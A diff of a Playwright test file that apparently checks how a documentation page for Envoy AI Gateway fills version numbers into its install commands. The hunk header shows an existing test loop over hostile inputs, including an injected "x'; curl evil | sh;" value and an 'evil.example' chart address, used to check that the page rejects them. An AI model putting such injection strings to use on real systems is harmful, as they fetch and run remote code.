@@ -83,6 +83,28 @@ for (const text of ['gateways', 'oci://evil.example/chart', "x'; curl evil | sh;
   });
 }
 
+/** The blocks whose placeholders follow from the release, and what stands below them. */
+const gateway = (page: Page) =>
+  page.locator('.theme-compat-command').filter({hasText: '/gateway-helm'});
+const manifest = (page: Page) =>
+  page.locator('.theme-compat-command').filter({hasText: 'basic.yaml'});
+const note = '.theme-compat-command-note';
+
+test('what a dependency is installed in, and a ref, follow the release', async ({page}) => {
+  await page.goto(selectors);
+  await expect(gateway(page).locator('code')).toContainText('--version v1.8.1');
+  // Nothing lies over it that would choose the product's release.
+  await expect(gateway(page).locator('code select')).toHaveCount(0);
+  await gateway(page).locator(note).getByRole('combobox').selectOption('v0.7.x');
+  await expect(gateway(page).locator('code')).toContainText('--version <ENVOY_GATEWAY_VERSION>');
+  await expect(gateway(page).locator(note)).toContainText(
+    'for Envoy AI Gateway v0.7.0 · change, with Envoy Gateway v1.8.x+',
+  );
+  await manifest(page).locator('code').getByRole('combobox').selectOption('main');
+  await expect(manifest(page).locator('code')).toContainText('/ai-gateway/main/examples/');
+  await expect(gateway(page).locator(note)).toContainText('with Envoy Gateway v1.8.1');
+});
+
 test.describe('without JavaScript', () => {
   test.use({javaScriptEnabled: false});
 
@@ -95,5 +117,7 @@ test.describe('without JavaScript', () => {
     );
     await expect(field(page)).toBeDisabled();
     await expect(field(page)).toHaveValue('envoy-ai-gateway-system');
+    await expect(gateway(page).locator('code')).toContainText('--version v1.8.1');
+    await expect(manifest(page).locator('code')).toContainText('/ai-gateway/v1.1.0/examples/');
   });
 });
